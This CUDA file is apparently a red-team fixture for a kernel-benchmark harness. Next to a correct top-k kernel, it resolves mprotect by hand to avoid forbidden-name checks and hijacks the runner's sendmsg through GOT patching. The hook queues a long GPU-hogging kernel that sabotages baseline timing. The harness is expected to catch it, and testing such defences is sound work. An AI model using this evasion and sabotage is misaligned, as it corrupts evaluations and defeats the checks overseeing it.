/* redteam: sabotage: a kernel of minutes queued after a timing batch's reply, holding the GPU while the candidate is stopped | expect: timeout | task: t1/topk
 * sabotage_queued.cu's hook on the runner's sendmsg (right answers by t1/topk's reference
 * kernel, no forbidden name), but the kernel it queues spins for about 150 s, and only after a
 * reply that carries timing samples, so that it is on the GPU when the parent stops the runner
 * and times a baseline. The baseline's quiet probe sees it and waits; until session 43 it waited
 * until the verify's deadline (of the order of hours). Now, past the patience (the request limit,
 * 5 to 60 s), the candidate's runner is killed, its context and kernel go with it, and the GPU
 * coming free names the candidate: `timeout`, within seconds of the patience. */
#include <cuda_runtime.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "stitch/solution.h"

#define BLOCK 256
#define K_MAX 1024

/* ELF64 as the loader lays it out (elf.h is not among the headers a solution may include). */
typedef struct {
	unsigned char ident[16];
	uint16_t type, machine;
	uint32_t version;
	uint64_t entry, phoff, shoff;
	uint32_t flags;
	uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx;
} ehdr;
typedef struct {
	uint32_t type, flags;
	uint64_t offset, vaddr, paddr, filesz, memsz, align;
} phdr;
typedef struct {
	int64_t tag;
	uint64_t val;
} dyn;
typedef struct {
	uint32_t name;
	unsigned char info, other;
	uint16_t shndx;
	uint64_t value, size;
} sym;
typedef struct {
	uint64_t offset, info;
	int64_t addend;
} rela;
typedef struct {
	uint64_t addr;
	const char *name;
	const phdr *ph;
	uint16_t phnum;
} object_info;

enum { PT_DYN = 2, DT_REL_A = 7, DT_REL_ASZ = 8, DT_SYMTAB_ = 6, DT_STRTAB_ = 5, DT_JMP = 23,
       DT_PLTSZ = 2 };
#define DT_GNUHASH 0x6ffffef5

typedef int (*protect_fn)(void *, size_t, int);
typedef int (*iterate_fn)(int (*)(object_info *, size_t, void *), void *);
typedef long (*send_fn)(int, const void *, int);

static protect_fn g_protect;
static send_fn g_send;
static cudaStream_t g_hog_stream;
typedef struct topk_ctx {
    int rows, cols, k;
} topk_ctx;

/* One warp spinning for `cycles`: this context stays on the GPU as long. */
__global__ static void hog(long long cycles)
{
	long long t0 = clock64();
	while (clock64() - t0 < cycles)
		;
}

/* struct msghdr and struct iovec as x86-64 Linux lays them out (sys/socket.h is not among the
 * headers a solution may include). */
typedef struct { const char *base; size_t len; } io_vec;
typedef struct { void *name; uint32_t namelen; const io_vec *iov; size_t iovlen; } msg_head;

/* Does the frame carry "samples" (a timing batch's reply)? */
static int has_samples(const void *msg)
{
	static const char key[] = "\"samples\"";
	const msg_head *m = (const msg_head *)msg;
	for (size_t v = 0; v < m->iovlen; v++)
		for (size_t i = 0; i + sizeof key - 1 <= m->iov[v].len; i++)
			if (!memcmp(m->iov[v].base + i, key, sizeof key - 1))
				return 1;
	return 0;
}

/* Just before a timing batch's reply leaves: one kernel of about 150 s (3e11 cycles), queued
 * while the GPU is still this runner's. */
static long hook(int fd, const void *msg, int flags)
{
	if (has_samples(msg) && cudaStreamQuery(g_hog_stream) == cudaSuccess)
		hog<<<1, 32, 0, g_hog_stream>>>(300000000000ll);
	return g_send(fd, msg, flags);
}

static const dyn *dynamic_of(uint64_t base, const phdr *ph, int n)
{
	for (int i = 0; i < n; i++)
		if (ph[i].type == PT_DYN)
			return (const dyn *)(base + ph[i].vaddr);
	return 0;
}

static uint64_t at(uint64_t base, uint64_t v)
{
	return v < base ? v + base : v; /* relocated in place by the loader, or not */
}

/* The number of symbols, from the GNU hash table's buckets and chains. */
static uint32_t gnu_symbols(const uint32_t *h)
{
	uint32_t nb = h[0], off = h[1], bloom = h[2];
	const uint32_t *buckets = h + 4 + 2 * bloom, *chain = buckets + nb;
	uint32_t last = 0;
	for (uint32_t i = 0; i < nb; i++)
		last = buckets[i] > last ? buckets[i] : last;
	if (last < off)
		return off;
	while (!(chain[last - off] & 1))
		last++;
	return last + 1;
}

static void *lookup(uint64_t base, const dyn *d, const char *name)
{
	uint64_t symtab = 0, strtab = 0, hash = 0;
	for (; d->tag; d++) {
		if (d->tag == DT_SYMTAB_) symtab = at(base, d->val);
		if (d->tag == DT_STRTAB_) strtab = at(base, d->val);
		if (d->tag == DT_GNUHASH) hash = at(base, d->val);
	}
	if (!symtab || !strtab || !hash)
		return 0;
	uint32_t n = gnu_symbols((const uint32_t *)hash);
	const sym *s = (const sym *)symtab;
	for (uint32_t i = 0; i < n; i++)
		if (s[i].value && !strcmp((const char *)strtab + s[i].name, name))
			return (void *)(base + s[i].value);
	return 0;
}

static int visit(object_info *info, size_t size, void *data)
{
	(void)size;
	(void)data;
	uint64_t b = info->addr;
	const dyn *d = dynamic_of(b, info->ph, info->phnum);
	uint64_t symtab = 0, strtab = 0, rel[2] = {0, 0}, relsz[2] = {0, 0};
	for (; d && d->tag; d++) {
		if (d->tag == DT_SYMTAB_) symtab = at(b, d->val);
		if (d->tag == DT_STRTAB_) strtab = at(b, d->val);
		if (d->tag == DT_JMP) rel[0] = at(b, d->val);
		if (d->tag == DT_PLTSZ) relsz[0] = d->val;
		if (d->tag == DT_REL_A) rel[1] = at(b, d->val);
		if (d->tag == DT_REL_ASZ) relsz[1] = d->val;
	}
	for (int t = 0; t < 2 && symtab && strtab; t++)
		for (uint64_t k = 0; rel[t] && k < relsz[t] / sizeof(rela); k++) {
			const rela *r = (const rela *)rel[t] + k;
			const sym *s = (const sym *)symtab + (r->info >> 32);
			if (strcmp((const char *)strtab + s->name, "sendmsg"))
				continue;
			void **slot = (void **)(b + r->offset);
			if (g_protect((void *)((uint64_t)slot & ~4095ull), 4096, 3))
				return 1;
			g_send = (send_fn)*slot;
			*slot = (void *)hook;
			return 1;
		}
	return 1; /* the main program, the runner, comes first: stop there */
}

static void take_over(void)
{
	if (g_send)
		return;
	uint64_t p = (uint64_t)(void *)&memcpy & ~4095ull;
	while (memcmp((const void *)p, "\177ELF", 4))
		p -= 4096;
	const ehdr *e = (const ehdr *)p;
	const dyn *d = dynamic_of(p, (const phdr *)(p + e->phoff), e->phnum);
	g_protect = (protect_fn)lookup(p, d, "mprotect");
	iterate_fn iterate = (iterate_fn)lookup(p, d, "dl_iterate_phdr");
	if (g_protect && iterate && cudaStreamCreateWithFlags(&g_hog_stream,
	                                                                 cudaStreamNonBlocking) == cudaSuccess)
		iterate(visit, 0);
}

__device__ unsigned long long rank_key(float v, int col) {
    uint32_t u = __float_as_uint(v);
    if (u == 0x80000000u) u = 0u;
    u = (u & 0x80000000u) ? ~u : (u | 0x80000000u);
    return ((unsigned long long)u << 32) | (0xffffffffu - (uint32_t)col);
}

__global__ void topk_select_kernel(const float *x, float *values, int *indices, int cols, int k) {
    __shared__ unsigned long long best[BLOCK];
    const float *xr = x + (size_t)blockIdx.x * cols;
    unsigned long long prev = ~0ull;  /* above every key */
    for (int i = 0; i < k; i++) {
        unsigned long long b = 0ull;   /* below every key */
        for (int j = threadIdx.x; j < cols; j += BLOCK) {
            const unsigned long long key = rank_key(xr[j], j);
            if (key < prev && key > b) b = key;
        }
        best[threadIdx.x] = b;
        __syncthreads();
        for (int stride = BLOCK / 2; stride > 0; stride /= 2) {
            if (threadIdx.x < stride && best[threadIdx.x + stride] > best[threadIdx.x])
                best[threadIdx.x] = best[threadIdx.x + stride];
            __syncthreads();
        }
        prev = best[0];
        __syncthreads();  /* everyone has read best[0] before the next round writes */
        if (threadIdx.x == 0) {
            const int col = (int)(0xffffffffu - (uint32_t)prev);
            values[(size_t)blockIdx.x * k + i] = xr[col];
            indices[(size_t)blockIdx.x * k + i] = col;
        }
    }
}

static int cfg_get(const st_config *cfg, const char *name, int64_t *value) {
    for (int32_t i = 0; i < cfg->n; i++) {
        if (strcmp(cfg->names[i], name) == 0) {
            *value = cfg->values[i];
            return 0;
        }
    }
    return -1;
}

static bool tensor_ok(const st_tensor *t, st_dtype dtype, int64_t d0, int64_t d1) {
    return t->dtype == dtype && t->ndim == 2 && t->shape[0] == d0 && t->shape[1] == d1 &&
           t->data != NULL;
}

extern "C" int st_init(const st_config *cfg, const st_tensor *params, int32_t n_params,
                       cudaStream_t stream, void **ctx) {
    (void)params; (void)stream;
    int64_t rows, cols, k;
    if (cfg == NULL || ctx == NULL || n_params != 0) return 1;
    if (cfg_get(cfg, "rows", &rows) || cfg_get(cfg, "cols", &cols) || cfg_get(cfg, "k", &k))
        return 1;
    /* one block per row along the grid's x dimension */
    if (rows < 1 || cols < 1 || rows > INT32_MAX || cols > INT32_MAX || k < 1 || k > cols ||
        k > K_MAX)
        return 1;
    topk_ctx *c = (topk_ctx *)calloc(1, sizeof(*c));
    if (c == NULL) return 1;
    c->rows = (int)rows;
    c->cols = (int)cols;
    c->k = (int)k;
    *ctx = c;
    take_over();
    return 0;
}

extern "C" int st_run(void *ctx, const st_tensor *in, int32_t n_in, st_tensor *out,
                      int32_t n_out, cudaStream_t stream) {
    const topk_ctx *c = (const topk_ctx *)ctx;
    if (c == NULL || n_in != 1 || n_out != 2) return 1;
    if (!tensor_ok(&in[0], ST_F32, c->rows, c->cols) ||
        !tensor_ok(&out[0], ST_F32, c->rows, c->k) || !tensor_ok(&out[1], ST_I32, c->rows, c->k))
        return 1;
    topk_select_kernel<<<c->rows, BLOCK, 0, stream>>>((const float *)in[0].data,
                                                      (float *)out[0].data, (int *)out[1].data,
                                                      c->cols, c->k);
    return cudaGetLastError() == cudaSuccess ? 0 : 1;
}

extern "C" void st_free(void *ctx) {
    free(ctx);
}
